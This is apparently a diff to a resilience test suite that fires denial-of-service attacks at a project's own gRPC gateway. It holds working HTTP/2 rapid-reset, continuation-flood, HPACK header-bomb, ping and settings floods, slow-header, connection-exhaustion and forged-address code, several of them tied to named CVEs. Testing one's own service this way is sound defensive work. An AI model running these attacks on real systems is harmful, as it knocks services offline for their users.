@@ -3,105 +3,245 @@
 #include <signal.h>
 
 #include <chrono>
+#include <functional>
 #include <memory>
-#include <optional>
 #include <thread>
 
 #include "absl/strings/str_cat.h"
 #include "libs/base/clock.h"
+#include "tarot/gateway/v1/session_service.pb.h"
 
 namespace tarot::hostile {
 namespace {
 
-using Connections = std::vector<std::unique_ptr<RawConnection>>;
+using Stop = std::atomic<bool>;
+
+constexpr absl::string_view kGetTable = "/tarot.rules.v1.TableService/GetTable";
+constexpr absl::string_view kHealth = "/grpc.health.v1.Health/Check";
+// The message of CreateGuestSession: the display name is Eve.
+constexpr absl::string_view kEve =
+    "\x0a\x03"
+    "Eve";
+// SETTINGS_HEADER_TABLE_SIZE and SETTINGS_INITIAL_WINDOW_SIZE.
+constexpr int kTableSize = 1, kWindow = 4;
 
 void Sleep(int ms) { std::this_thread::sleep_for(std::chrono::milliseconds(ms)); }
 
-// Keeps, from four addresses, up to `count` connections open, opens each again after its end, and
-// calls `each` for all of them again and again.
-template <typename First, typename Each>
-void Keep(const Target& target, std::size_t count, const std::atomic<bool>& stopping, First first,
-          Each each) {
-  Connections connections;
-  Target from = target;
+// One connection of an attacker, and the number of its next stream.
+struct Line {
+  Line(const Target& target, int source) : connection(target, source) {}
+
+  RawConnection connection;
+  unsigned stream = 1;
+};
+
+// Keeps up to `count` connections open, from the attacker's addresses in turn. Opens each again
+// after its end. Sends what `first` returns on each new one, and what `each` returns on all of
+// them, again and again with pauses of `pause_ms`.
+void Keep(const Target& target, std::size_t count, int pause_ms, const Stop& stopping,
+          const std::function<std::string(Line&)>& first,
+          const std::function<std::string(Line&)>& each) {
+  std::vector<std::unique_ptr<Line>> lines;
   for (int opened = 0; !stopping;) {
-    while (!stopping && connections.size() < count) {
-      from.source = target.source + ++opened % 4;
-      auto connection = std::make_unique<RawConnection>(from);
-      if (!connection->Open()) {
-        Sleep(2);
-        break;
+    for (int i = 0; i < 200 && !stopping && lines.size() < count; ++i) {
+      auto line = std::make_unique<Line>(target, opened++);
+      if (line->connection.Open() && line->connection.Push(first(*line))) {
+        lines.push_back(std::move(line));
+      } else {
+        Sleep(1);
       }
-      if (first(*connection)) connections.push_back(std::move(connection));
     }
-    std::erase_if(connections, [&](const auto& connection) {
-      return !connection->Open() || !each(*connection);
+    std::erase_if(lines, [&](const auto& line) {
+      RawConnection& connection = line->connection;
+      if (!connection.Open() || !connection.Push("")) return true;
+      return connection.pushed() && line->stream < 1u << 30 && !connection.Push(each(*line));
     });
-    Sleep(20);
+    Sleep(pause_ms);
   }
 }
 
+std::string OnlyPreface(Line&) { return Preface(); }
+std::string Nothing(Line&) { return ""; }
+
 // 1,200 connections are more than 1,024 descriptors, the usual limit. Debian's gRPC never accepts
 // again after this limit (CVE-2023-4785).
-std::string HoldConnections(const Target& target, const std::atomic<bool>& stopping) {
-  const auto fine = [](RawConnection&) { return true; };
-  Keep(target, 1'200, stopping, fine, fine);
+std::string HoldConnections(const Target& target, const Stop& stopping) {
+  Keep(target, 1'200, 20, stopping, Nothing, Nothing);
+  return "";
+}
+
+// Makes one call on each connection, which the door then keeps open for the next call.
+std::string HoardConnections(const Target& target, const Stop& stopping) {
+  const auto call = [](Line&) {
+    return absl::StrCat(Preface(), HeadersOf(1, kGetTable), MessageOf(1, ""));
+  };
+  Keep(target, 10'000, 20, stopping, call, Nothing);
+  return "";
+}
+
+std::string OpenAndClose(const Target& target, const Stop& stopping) {
+  for (int i = 0; !stopping; ++i) {
+    const RawConnection connection(target, i);
+  }
   return "";
 }
 
 // CVE-2023-44487.
-std::string ResetStreams(const Target& target, const std::atomic<bool>& stopping) {
-  while (!stopping) {
-    RawConnection connection(target);
-    bool open = connection.Open() && connection.Send(Preface());
-    for (unsigned stream = 1; open && !stopping && stream < 1u << 30;) {
-      std::string burst;
-      for (int i = 0; i < 200; ++i, stream += 2) {
-        absl::StrAppend(&burst, HeadersOf(stream, kSignIn), ResetOf(stream));
-      }
-      open = connection.Send(burst) && connection.Open();
+std::string ResetStreams(const Target& target, const Stop& stopping) {
+  Keep(target, 4, 0, stopping, OnlyPreface, [](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 200; ++i, line.stream += 2) {
+      absl::StrAppend(&burst, HeadersOf(line.stream, kSignIn), ResetOf(line.stream));
     }
-    Sleep(2);
+    return burst;
+  });
+  return "";
+}
+
+// The same with whole calls, which the door may forward before the reset comes.
+std::string ResetCalls(const Target& target, const Stop& stopping) {
+  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 50; ++i, line.stream += 2) {
+      absl::StrAppend(&burst, HeadersOf(line.stream, kGetTable), MessageOf(line.stream, ""));
+    }
+    for (unsigned stream = line.stream - 100; stream < line.stream; stream += 2) {
+      burst += ResetOf(stream);
+    }
+    return burst;
+  });
+  return "";
+}
+
+// Whole calls at full speed: without a token, to health, and sign-ins.
+std::string FloodCalls(const Target& target, const Stop& stopping) {
+  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 50; ++i, line.stream += 2) {
+      const absl::string_view path = i % 3 == 0 ? kGetTable : i % 3 == 1 ? kHealth : kSignIn;
+      absl::StrAppend(&burst, HeadersOf(line.stream, path),
+                      MessageOf(line.stream, path == kSignIn ? kEve : ""));
+    }
+    return burst;
+  });
+  return "";
+}
+
+// 300,000 calls whose message never comes.
+std::string OpenHalfCalls(const Target& target, const Stop& stopping) {
+  const auto open = [](Line& line) {
+    std::string calls = Preface();
+    for (; line.stream < 500; line.stream += 2) calls += HeadersOf(line.stream, kSignIn);
+    return calls;
+  };
+  Keep(target, 1'200, 20, stopping, open, Nothing);
+  return "";
+}
+
+// 200 connections whose headers come some bytes at a time and never end.
+std::string SendSlowHeaders(const Target& target, const Stop& stopping) {
+  const auto begin = [](Line& line) {
+    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
+  };
+  const auto more = [](Line& line) {
+    return Frame(kContinuation, 0, line.stream, Header("a", "b"));
+  };
+  Keep(target, 200, 20, stopping, begin, more);
+  return "";
+}
+
+// CVE-2024-27316 and others: headers that never end, at full speed.
+std::string FloodContinuations(const Target& target, const Stop& stopping) {
+  const auto begin = [](Line& line) {
+    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
+  };
+  const auto more = [](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 200; ++i) burst += Frame(kContinuation, 0, line.stream, "");
+    return burst;
+  };
+  Keep(target, 8, 0, stopping, begin, more);
+  return "";
+}
+
+// CVE-2023-33953: a large header enters the table, and each further byte names it again.
+std::string BombHeaderTables(const Target& target, const Stop& stopping) {
+  const auto begin = [](Line&) { return Preface({{kTableSize, 1u << 20}}); };
+  const auto bomb = [](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 20; ++i, line.stream += 2) {
+      std::string block = HeaderBlock(kSignIn);
+      // The table grows and shrinks, and then takes the large header.
+      block = absl::StrCat("\x20\x3f\xe1\x1f", block, Header("bomb", std::string(3'000, 'x'), true),
+                           std::string(2'000, '\xbe'));
+      absl::StrAppend(&burst, Frame(kHeaders, kEndHeaders, line.stream, block),
+                      MessageOf(line.stream, kEve));
+    }
+    return burst;
+  };
+  Keep(target, 6, 0, stopping, begin, bomb);
+  return "";
+}
+
+std::string FloodPings(const Target& target, const Stop& stopping) {
+  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
+    std::string burst;
+    for (int i = 0; i < 500; ++i) burst += Frame(kPing, 0, 0, "12345678");
+    return burst;
+  });
+  return "";
+}
+
+std::string FloodSettings(const Target& target, const Stop& stopping) {
+  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
+    std::string burst;
+    for (int i = 0; i < 500; ++i) burst += Frame(kSettings, 0, 0, "");
+    return burst;
+  });
+  return "";
+}
+
+// Makes calls of guests, whose answers no window lets through.
+std::string LeaveAnswersUnread(const Target& target, const Stop& stopping) {
+  std::vector<Headers> guests;
+  for (int i = 0; i < 40 && !stopping; ++i) {
+    RawConnection connection(target, i);
+    gateway::v1::CreateGuestSessionResponse response;
+    const Answer answer = connection.Call(kSignIn, kEve, {}, absl::Seconds(5));
+    if (answer.status != 0 || !response.ParseFromString(answer.message)) continue;
+    guests.push_back({{"authorization", absl::StrCat("Bearer ", response.session().token())}});
   }
-  return "";
-}
-
-// 10,000 calls whose message never comes.
-std::string OpenHalfCalls(const Target& target, const std::atomic<bool>& stopping) {
-  std::string calls = Preface();
-  for (unsigned stream = 1; stream < 200; stream += 2) calls += HeadersOf(stream, kSignIn);
-  const auto open = [&](RawConnection& connection) { return connection.Send(calls); };
-  Keep(target, 100, stopping, open, [](RawConnection&) { return true; });
-  return "";
-}
-
-// 200 connections whose headers come a byte at a time and never end.
-std::string SendSlowHeaders(const Target& target, const std::atomic<bool>& stopping) {
-  const auto begin = [](RawConnection& connection) {
-    return connection.Send(absl::StrCat(Preface(), UnfinishedHeaders(1, kSignIn)));
+  if (guests.empty()) return "No guest could sign in.";
+  std::size_t next = 0;
+  const auto begin = [](Line& line) {
+    line.connection.ShrinkBuffers();
+    return Preface({{kWindow, 0}});
   };
-  // The bytes of one header, over and over.
-  const auto more = [](RawConnection& connection) {
-    return connection.Send(MoreHeaders(1, absl::string_view("\0\1a\1b", 5)));
+  const auto calls = [&](Line& line) {
+    std::string burst;
+    for (int i = 0; i < 20; ++i, line.stream += 2) {
+      absl::StrAppend(&burst,
+                      HeadersOf(line.stream, "/tarot.matchmaking.v1.MatchmakingService/ListQueues",
+                                guests[next++ % guests.size()]),
+                      MessageOf(line.stream, ""));
+    }
+    return burst;
   };
-  Keep(target, 200, stopping, begin, more);
+  Keep(target, 200, 5, stopping, begin, calls);
   return "";
 }
 
 // Signs guests in, each under an address of its own in the header that only the door may set. The
 // gateway allows an address 100 sign-ins at once and 5 a second.
-std::string ForgeAddresses(const Target& target, const std::atomic<bool>& stopping) {
+std::string ForgeAddresses(const Target& target, const Stop& stopping) {
   const Stopwatch watch;
   int accepted = 0;
   for (int i = 0; !stopping; ++i) {
     const std::string forged = absl::StrCat("192.0.", i / 256 % 256, ".", i % 256);
     RawConnection connection(target);
-    const std::optional<int> status =
-        connection.Call(kSignIn,
-                        "\x0a\x03"
-                        "Eve",
-                        {{"x-tarot-client-address", forged}}, absl::Seconds(5));
-    accepted += status == 0;
+    accepted +=
+        connection.Call(kSignIn, kEve, {{"x-tarot-client-address", forged}}, absl::Seconds(5))
+            .status == 0;
     Sleep(5);
   }
   const double fair = 100 + 5 * absl::ToDoubleSeconds(watch.Elapsed()) + 1;
@@ -110,7 +250,7 @@ std::string ForgeAddresses(const Target& target, const std::atomic<bool>& stoppi
 }
 
 // The operator, not an attacker, loads the door's configuration again and again.
-std::string ReloadDoor(const Target& target, const std::atomic<bool>& stopping) {
+std::string ReloadDoor(const Target& target, const Stop& stopping) {
   while (!stopping) {
     kill(target.door, SIGUSR2);
     for (int i = 0; i < 20 && !stopping; ++i) Sleep(100);
@@ -122,10 +262,21 @@ std::string ReloadDoor(const Target& target, const std::atomic<bool>& stopping) 
 
 const std::vector<Attack>& Attacks() {
   static const auto& attacks = *new std::vector<Attack>{
+      {"none", "does nothing, for comparison",
+       [](const Target&, const Stop&) { return std::string(); }},
       {"connections", "holds 1,200 connections open without a byte", HoldConnections},
+      {"hoarding", "makes one call on each of 10,000 connections and keeps them", HoardConnections},
+      {"churn", "opens and closes connections at full speed", OpenAndClose},
       {"resets", "opens and resets streams at full speed", ResetStreams},
-      {"half_calls", "opens 10,000 calls whose message never comes", OpenHalfCalls},
+      {"call_resets", "sends and resets whole calls at full speed", ResetCalls},
+      {"calls", "makes whole calls at full speed", FloodCalls},
+      {"half_calls", "opens 300,000 calls whose message never comes", OpenHalfCalls},
       {"slow_headers", "sends headers on 200 connections that never end", SendSlowHeaders},
+      {"continuations", "sends empty headers that never end at full speed", FloodContinuations},
+      {"header_tables", "sends header tables that make headers large", BombHeaderTables},
+      {"pings", "sends pings at full speed", FloodPings},
+      {"settings", "sends settings at full speed", FloodSettings},
+      {"unread", "makes calls of guests and never reads their answers", LeaveAnswersUnread},
       {"forged_address", "signs in under forged addresses", ForgeAddresses},
       {"reloads", "loads the door's configuration every two seconds", ReloadDoor},
   };
